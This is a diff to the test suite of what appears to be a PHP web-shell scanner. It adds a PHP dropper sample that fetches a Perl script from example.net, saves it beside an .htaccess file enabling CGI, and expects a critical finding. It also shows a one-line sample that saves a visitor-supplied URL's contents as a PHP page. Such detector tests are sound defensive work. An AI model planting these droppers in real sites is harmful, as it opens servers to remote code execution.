@@ -180,6 +180,27 @@ file_put_contents(__DIR__ . '/cache/stamp.php', '<?php return ' . time() . ';');
     expect(isAlarm('/var/www/html/feed.php', cache)).toBe(false);
   });
 
+  it('ranks a page that saves a downloaded Perl CGI beside its .htaccess critical, and a downloaded log not', () => {
+    const dropper = `<?php
+@mkdir("cg");
+$src = "http://example.net/perltext/cgi.txt";
+$file = file_get_contents($src);
+$open = fopen("cg/cgi.pl", 'w');
+fwrite($open, $file);
+fclose($open);
+file_put_contents("cg/.htaccess", "AddHandler cgi-script .pl");
+`;
+    expect(topFinding('/var/www/html/p.php', dropper)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves code it downloads as a server page/),
+    });
+    const log = `<?php
+$src = "https://example.net/status/today.txt";
+file_put_contents(__DIR__ . '/logs/status.log', file_get_contents($src));
+`;
+    expect(isAlarm('/var/www/html/status.php', log)).toBe(false);
+  });
+
   it("ranks a page saving what the visitor's URL returns as a server page critical, and an avatar fetch not", () => {
     const direct = `<?php file_put_contents("x.php", file_get_contents($_GET["u"]));`;
     expect(topFinding('/var/www/html/g.php', direct)).toMatchObject({
